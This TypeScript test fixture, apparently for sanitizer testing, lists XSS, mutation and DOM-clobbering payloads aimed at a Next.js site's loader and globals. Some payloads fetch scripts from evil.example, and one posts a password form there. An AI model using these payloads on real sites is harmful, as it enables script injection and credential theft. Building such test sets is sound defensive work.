/**
 * What an author who means harm could write into a rich text, one a line. Whatever runs calls `hit` or asks `evil.example`.
 * Sources: OWASP's filter evasion sheet, the test sets of DOMPurify and sanitize-html, and the names that this site's scripts,
 * Next's and the bundler's look up.
 */
export const EVIL = 'https://evil.example';
const run = (name: string) => `window.hit&&hit('${name}')`;
const BOOT = `{"scripts":["${EVIL}/boot.js"],"into":"TURBOPACK","groups":[]}`;
const NEXT = `{"props":{"pageProps":{}},"page":"/_error","query":{},"buildId":"x","assetPrefix":"${EVIL}","scriptLoader":[{"src":"${EVIL}/next.js","strategy":"afterInteractive"}]}`;

/** Data in the place of what the loader and Next's client read: each alone had foreign scripts run. */
export const DATA: readonly string[] = [
  `<p id="__BOOT__">${BOOT}</p>`,
  `<p id="__BOOT__" data-now>${BOOT}</p>`,
  `<script id="__BOOT__" type="application/json">${BOOT}</script>`,
  `<p id="__NEXT_DATA__">${NEXT}</p>`,
  `<script id="__NEXT_DATA__" type="application/json">${NEXT}</script>`,
];

/** Elements that take the name of something else that a script looks up. */
export const NAMES: readonly string[] = [
  `<p id="page-metadata">{"Title":"mine","DisplayDate":""}</p>`,
  `<h2>Page metadata</h2>`,
  `<h2>Notes title</h2>`,
  `<div id="__next">mine</div>`,
  `<div id="main">mine</div>`,
  `<a id="TURBOPACK" href="${EVIL}/t.js">x</a>`,
  `<a id="__boot" href="javascript:${run('boot')}">x</a>`,
  `<a id="__NEXT_P" name="__NEXT_P" href="${EVIL}">x</a>`,
  `<a id="__BUILD_MANIFEST" href="${EVIL}">x</a><a id="__BUILD_MANIFEST" name="sortedPages" href="${EVIL}">y</a>`,
  `<a id="__MIDDLEWARE_MATCHERS" href="${EVIL}">x</a>`,
  `<a id="pageMetaInformation">x</a>`,
  `<a id="dataLayer">x</a>`,
  `<a name="angular" href="${EVIL}">x</a>`,
  `<div class="ng-scope" ng-controller="Evil" data-ng-controller="Evil">{{constructor.constructor('${run('ng')}')()}}</div>`,
  `<p data-enhance="embed" data-island><a data-embed="play" href="${EVIL}/frame">Play</a></p>`,
  `<div data-enhance="own-zone"><time data-own-zone datetime="x">x</time></div>`,
  `<div class="usermenu__name usermenu__staff" data-session="in" data-keep="save" data-share="copy" data-print><button>x</button></div>`,
  `<p data-jobs-total="9"><a class="job-link" href="${EVIL}">x</a></p>`,
  `<p class="dialog dialog--full still" role="dialog" aria-label="Sign in">Sign in again</p>`,
];

/** Elements by whose name a property of `document` is hidden: on a page without sanitizing nothing would run at all. */
export const HIDING: readonly string[] = [
  `<script type="application/json">${BOOT}</script><img name="currentScript" src="x" alt="">`,
  `<form name="currentScript"><input name="previousElementSibling"></form>`,
  `<img name="head" alt=""><img name="cookie" alt=""><img name="documentElement" alt="">`,
  `<form id="forms" name="getElementById"></form>`,
  `<form name="querySelector"><input name="textContent"></form>`,
  `<object name="createElement"></object>`,
  `<iframe name="location" src="about:blank"></iframe>`,
];

const SCRIPTS: readonly string[] = [
  `<script>${run('script')}</script>`,
  `<SCRIPT SRC="${EVIL}/upper.js"></SCRIPT>`,
  `<scr<script>ipt>${run('nested')}</scr</script>ipt>`,
  `<script type="module">${run('module')}</script>`,
  `<script src="/_next/static/chunks/../../../-/media/evil.js"></script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/spec"]}]}</script>`,
  `<script type="importmap">{"imports":{"a":"${EVIL}/map.js"}}</script>`,
  `<img src="x" onerror="${run('onerror')}" alt="">`,
  `<img/src="x"/onerror=${run('slash')}>`,
  `<p onmouseover="${run('over')}" onclick="${run('click')}" style="position:fixed;inset:0">cover</p>`,
  `<details open ontoggle="${run('toggle')}"><summary>x</summary></details>`,
  `<a href="javascript:${run('href')}">x</a>`,
  `<a href="  JaVaScRiPt:${run('case')}">x</a>`,
  `<a href="java&#9;script:${run('tab')}">x</a>`,
  `<a href="java&#10;script&colon;${run('line')}">x</a>`,
  `<a href="&#1;javascript:${run('control')}">x</a>`,
  `<a href="vbscript:x">x</a><a href="data:text/html,<script>${run('data')}</script>">x</a>`,
  `<a href="blob:${EVIL}/x">x</a><a href="filesystem:x">x</a>`,
  `<a href="/x" ping="${EVIL}/ping" target="_parent" download="x.exe">x</a>`,
  `<svg><script>${run('svg')}</script></svg>`,
  `<svg onload="${run('svgload')}"></svg>`,
  `<svg><animate onbegin="${run('animate')}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${run('xlink')}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'/>#x"></use></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run('foreign')}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src="x" onerror="${run('math')}" alt=""></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run('mathhref')}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>`,
  `<style>@import '${EVIL}/a.css'; p{background:url(${EVIL}/b)}</style>`,
  `<style></style/><img src="x" onerror="${run('style')}" alt=""></style>`,
  `<link rel="stylesheet" href="${EVIL}/c.css"><link rel="preload" as="script" href="${EVIL}/l.js"><link rel="prefetch" href="${EVIL}/p">`,
  `<link rel="import" href="${EVIL}/import"><link rel="manifest" href="${EVIL}/m">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">`,
  `<base href="${EVIL}/">`,
  `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.hit('srcdoc')</script>"></iframe>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/e"><applet code="x"></applet>`,
  `<form action="/api/session/sign-out" method="post"><button>Go on</button></form>`,
  `<form id="steal" action="${EVIL}/form"><input name="password" type="password"><button formaction="${EVIL}/f2">x</button></form>`,
  `<input autofocus onfocus="${run('focus')}"><select autofocus onfocus="${run('select')}"></select><keygen autofocus>`,
  `<video src="${EVIL}/v" autoplay onloadstart="${run('video')}"><source onerror="${run('source')}"></video><audio src="${EVIL}/a"></audio>`,
  `<marquee onstart="${run('marquee')}">x</marquee><isindex action="javascript:${run('isindex')}">`,
  `<template><script>${run('template')}</script></template><template shadowrootmode="open"><script>${run('shadow')}</script></template>`,
  `<slot name="x" onslotchange="${run('slot')}"></slot><dialog open>x</dialog><portal src="${EVIL}/portal"></portal>`,
  `<x-frame is="evil" onclick="${run('custom')}">x</x-frame>`,
  `<body onload="${run('body')}" background="${EVIL}/bg"><html manifest="${EVIL}/m">`,
  `<!--><img src="x" onerror="${run('comment')}" alt="">-->`,
  `<!--[if gte IE 4]><script>${run('conditional')}</script><![endif]-->`,
  `<![CDATA[<script>${run('cdata')}</script>]]><?xml-stylesheet href="javascript:${run('pi')}"?>`,
  `<img src="data:image/svg+xml,<svg onload='${run('datasvg')}'/>" alt=""><img srcset="${EVIL}/s 1x" alt="">`,
  `<table background="javascript:${run('table')}"><tr><td background="${EVIL}/td" style="background:url(${EVIL}/td2)">x</td></tr></table>`,
  `<p title="&quot;><img src=x onerror=${run('quote')}>">x</p>`,
  `<p title='"><script>${run('attr')}</script>'>x</p>`,
  `<a href="#__BOOT__">in the page</a><h3 id="__NEXT_DATA__">${NEXT}</h3>`,
  `<h2 id="x"onclick="${run('glued')}" id="__BOOT__">Twice</h2>`,
  `<textarea><img src="x" onerror="${run('textarea')}"></textarea>`,
  `<title><img src="x" onerror="${run('title')}"></title><xmp><img src="x" onerror="${run('xmp')}"></xmp>`,
  `<plaintext><script>${run('plaintext')}</script>`,
];

export const ATTACKS: readonly string[] = [...DATA, ...NAMES, ...HIDING, ...SCRIPTS];
